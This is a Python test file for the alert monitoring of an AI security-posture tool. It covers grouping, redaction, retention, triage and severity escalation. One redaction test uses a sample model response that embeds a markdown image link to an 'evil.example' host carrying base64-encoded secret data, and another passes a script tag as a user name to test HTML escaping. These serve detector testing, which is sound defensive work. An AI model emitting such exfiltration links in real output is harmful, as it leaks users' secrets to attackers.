"""Stored events and alerts: redaction, retention, grouping, triage, severity, links."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import ClassVar

import pytest

from aiposture import Posture
from aiposture.demo import fake_openai_key
from aiposture.discovery import observe
from aiposture.errors import NotFoundError
from aiposture.models import (
    AssetKind,
    AssetRisk,
    Finding,
    Priority,
    RiskSnapshot,
    Severity,
    utcnow,
)
from aiposture.monitor.alerts import AlertList, escalate, merge
from aiposture.monitor.base import Detector
from aiposture.monitor.detectors.exfiltration import ExfiltrationDetector
from aiposture.monitor.eventstore import EventStore
from aiposture.monitor.models import AlertStatus, Detection, Event
from aiposture.monitor.redact import redact
from aiposture.settings import Settings
from aiposture.store.base import FileState, SourceUpdate, Store


class Keyword(Detector):
    """Flags prompts that contain the word ALARM (a plugin written for these tests)."""

    id: ClassVar[str] = "TEST-KEYWORD"
    description: ClassVar[str] = "Prompts with the word ALARM."
    frameworks: ClassVar[tuple[str, ...]] = ("owasp-llm:LLM01",)
    severity: ClassVar[Severity] = Severity.MEDIUM

    def detect(
        self, event: Event, *, embeddings: Sequence[Sequence[float]] | None = None
    ) -> list[Detection]:
        if "ALARM" not in event.prompt:
            return []
        return [
            Detection(
                detector=self.id,
                event_id=event.id,
                score=0.9 if "ALARM!" in event.prompt else 0.6,
                severity=self.severity,
                title="alarm word",
                evidence=[f"ALARM in {event.id}"],
                tags=list(self.frameworks),
                figures={"n": 1.0},
            )
        ]


def ev(i: int, minutes: float, prompt: str = "ALARM", principal: str = "mallory", **kw: object):
    at = utcnow().replace(microsecond=0) - timedelta(hours=6) + timedelta(minutes=minutes)
    return Event(id=f"e{i}", at=at, principal=principal, model="gpt-4o-mini", prompt=prompt, **kw)


def posture(store: Store, **monitor: object) -> Posture:
    settings = Settings.from_mapping({"monitor": monitor}) if monitor else Settings()
    p = Posture(store, actor="alice", settings=settings)
    p.monitor.use([Keyword()])
    return p


def test_detections_of_one_principal_and_model_group_into_one_alert(store: Store) -> None:
    p = posture(store)
    events = [ev(i, i * 5) for i in range(6)]  # 25 minutes, window 60
    events += [ev(10, 200)]  # after the window: a new alert
    events += [ev(11, 6, principal="eve")]  # another principal: its own alert
    events += [ev(12, 7, prompt="hello")]  # nothing found
    run = p.monitor.run(events)
    assert run.events == 9 and run.stored == 9 and run.detections["TEST-KEYWORD"] == 8
    alerts = p.alerts
    assert len(alerts) == 3 and len(run.new_alerts) == 3
    grouped = next(a for a in alerts if a.count == 6)
    assert grouped.principal == "mallory" and grouped.event_ids == [f"e{i}" for i in range(6)]
    assert grouped.last_seen - grouped.first_seen == timedelta(minutes=25)
    assert sorted(a.count for a in alerts) == [1, 1, 6]


def test_a_stronger_detection_raises_the_score_and_replaces_the_evidence(store: Store) -> None:
    p = posture(store)
    p.monitor.run([ev(1, 0), ev(2, 1, prompt="ALARM! now")])
    (alert,) = p.alerts
    assert alert.score == pytest.approx(0.9) and alert.evidence == ["ALARM in e2"]


def test_replaying_a_log_stores_events_once_and_does_not_double_alert_counts(
    store: Store, tmp_path: Path
) -> None:
    log = tmp_path / "chat.jsonl"
    rows = [ev(i, i).model_dump(mode="json") for i in range(4)]
    log.write_text("\n".join(json.dumps(r) for r in rows) + "\n{broken\n")
    p = posture(store)
    first = p.monitor.run(log)
    second = p.monitor.run(log)
    assert (first.stored == 4 and first.skipped == {"bad JSON": 1}) or first.skipped
    assert second.stored == 0 and second.duplicates == 4
    (alert,) = p.alerts
    assert alert.count == 4
    assert EventStore(store).count() == 4


def test_stored_texts_are_redacted_by_default_and_detectors_saw_the_original(
    store: Store,
) -> None:
    key = fake_openai_key()
    p = Posture(store, actor="alice")
    p.monitor.use([ExfiltrationDetector()])
    event = ev(
        1,
        0,
        prompt="Mail me at jane.roe@example.com please",
        response=f"Here is the key {key} and ![x](https://evil.example/p?d=c2VjcmV0LWRhdGEtZm9yLXRoZS1hdHRhY2tlcg)",
    )
    run = p.monitor.run([event])
    assert run.detections["AIP-DET-EXFIL"] >= 1
    ((stored, found),) = p.monitor.events()
    assert key not in stored.response and "[REDACTED:" in stored.response
    assert "jane.roe@example.com" not in stored.prompt
    assert "c2VjcmV0" not in stored.response
    assert found and found[0].detector == "AIP-DET-EXFIL"
    assert run.redactions and sum(run.redactions.values()) >= 3


@pytest.mark.parametrize("mode", ["full", "none"])
def test_store_text_full_keeps_and_none_drops_the_texts(store: Store, mode: str) -> None:
    p = posture(store, store_text=mode)
    p.monitor.run([ev(1, 0, prompt="ALARM jane.roe@example.com", response="fine")])
    ((stored, _),) = p.monitor.events()
    if mode == "full":
        assert stored.prompt == "ALARM jane.roe@example.com" and stored.response == "fine"
    else:
        assert stored.prompt == "" and stored.response == ""
    assert stored.principal == "mallory"  # metadata is always kept


def test_redact_names_each_type_and_leaves_plain_text() -> None:
    text, counts = redact("call +44 20 7946 0958 or visit https://x.example/a?q=abc, thanks")
    assert "7946" not in text and "q=abc" not in text and text.endswith(", thanks")
    assert counts.get("URL_QUERY") == 1 and len(counts) == 2
    assert redact("nothing to hide here") == ("nothing to hide here", {})


def test_retention_drops_old_events_but_keeps_their_alerts(store: Store) -> None:
    p = posture(store, retention_days=1)
    old = ev(1, 0).model_copy(update={"at": utcnow() - timedelta(days=3)})
    run = p.monitor.run([old, ev(2, 0)])
    assert run.expired == 1 and run.stored == 1
    assert len(p.alerts) == 2  # an attack in an old log still raises its alert
    es = EventStore(store)
    assert es.prune(timedelta(hours=1)) == 1 and es.count() == 0


def test_triage_records_who_and_when_is_audited_and_false_positive_needs_a_reason(
    store: Store,
) -> None:
    p = posture(store)
    p.monitor.run([ev(1, 0)])
    (alert,) = p.alerts
    with pytest.raises(ValueError, match="needs a reason"):
        p.set_alert_status(alert.id, "false_positive")
    with pytest.raises(ValueError, match="invalid alert status"):
        p.set_alert_status(alert.id, "closed")
    with pytest.raises(NotFoundError):
        p.set_alert_status("alr-nope", "resolved")
    done = p.set_alert_status(alert.id, "acknowledged")
    assert done.status is AlertStatus.ACKNOWLEDGED and done.status_by == "alice"
    assert done.status_at is not None
    entries = [e for e in p.audit_log() if e.action == "alert.status"]
    assert entries[-1].object_id == alert.id and entries[-1].details["to"] == "acknowledged"
    assert p.verify_audit().ok


def test_a_false_positive_absorbs_repeats_but_a_resolved_alert_reopens_as_new(
    store: Store,
) -> None:
    p = posture(store)
    p.monitor.run([ev(1, 0)])
    (first,) = p.alerts
    p.set_alert_status(first.id, "false_positive", reason="load test")
    p.monitor.run([ev(2, 10)])
    (only,) = p.alerts
    assert only.status is AlertStatus.FALSE_POSITIVE and only.count == 2
    p.set_alert_status(first.id, "resolved")
    p.monitor.run([ev(3, 20)])
    statuses = sorted(a.status.value for a in p.alerts)
    assert statuses == ["open", "resolved"]
    assert p.alerts[0].status is AlertStatus.OPEN  # live alerts first


def _estate(store: Store) -> str:
    model = observe.model("gpt-4o-mini", None)
    finding = Finding.new(
        model.id, "AIP-TEST-001", "No input guardrail", Severity.HIGH, tags=["owasp-llm:LLM01"]
    )
    store.apply(
        [SourceUpdate("/e/app.py", "/e", [model, finding], FileState(1, 1, "0" * 64, "t@1"))],
        scan_id="s1",
        actor="t",
    )
    risk = AssetRisk(
        asset_id=model.id,
        asset_name=model.name,
        asset_kind=AssetKind.MODEL,
        dimensions=[],
        likelihood=9,
        impact=9,
        score=81,
        priority=Priority.CRITICAL,
    )
    store.save_snapshot(RiskSnapshot(id="snap-1", risks=[risk]))
    return model.id


def test_events_link_to_the_model_asset_whose_risk_raises_severity_and_findings_attach(
    store: Store,
) -> None:
    model_id = _estate(store)
    p = posture(store)
    p.monitor.run([ev(1, 0)])
    (alert,) = p.alerts
    assert alert.asset_id == model_id
    assert alert.severity is Severity.HIGH  # medium, one level up for a critical asset
    assert len(alert.finding_ids) == 1
    frame = p.alerts.to_pandas()
    assert list(frame["severity"]) == ["high"] and frame.loc[0, "count"] == 1


def test_escalate_and_merge_rules() -> None:
    assert escalate(Severity.CRITICAL, Priority.CRITICAL) is Severity.CRITICAL
    assert escalate(Severity.LOW, Priority.MEDIUM) is Severity.LOW
    assert escalate(Severity.LOW, Priority.HIGH) is Severity.MEDIUM
    det = Keyword().detect(ev(1, 0))[0]
    a, new = merge(None, det, ev(1, 0), window=timedelta(minutes=5))
    assert new
    b, new = merge(a, det, ev(2, 4), window=timedelta(minutes=5))
    assert not new and b.count == 2
    c, new = merge(b, det, ev(3, 20), window=timedelta(minutes=5))
    assert new and c.id != a.id


def test_alerts_render_escaped_html_and_an_empty_frame(store: Store) -> None:
    p = posture(store)
    assert p.alerts.to_pandas().empty
    p.monitor.run([ev(1, 0, principal="<script>x</script>")])
    html = p.alerts._repr_html_() + p.alerts[0]._repr_html_()
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert isinstance(p.alerts, AlertList) and p.alerts.live().by_detector() == {"TEST-KEYWORD": 1}


def test_model_wide_detections_group_without_a_principal(store: Store) -> None:
    class ModelWide(Keyword):
        id: ClassVar[str] = "TEST-MODEL-WIDE"

        def detect(
            self, event: Event, *, embeddings: Sequence[Sequence[float]] | None = None
        ) -> list[Detection]:
            return [d.model_copy(update={"scope": "model"}) for d in super().detect(event)]

    p = posture(store)
    p.monitor.use([ModelWide()])
    p.monitor.run([ev(1, 0, principal="ann"), ev(2, 5, principal="bob")])
    (alert,) = p.alerts
    assert alert.principal is None and alert.count == 2


def test_monitor_prune_applies_the_retention_setting(store: Store) -> None:
    p = posture(store, retention_days=1)
    p.monitor.run([ev(1, 0)])  # six hours old: kept by the run
    assert p.monitor.prune() == 0 and EventStore(store).count() == 1
    p.settings = Settings.from_mapping({"monitor": {"retention_days": 0.1}})  # 2.4 hours
    p.monitor.settings = p.settings
    assert p.monitor.prune() == 1 and EventStore(store).count() == 0
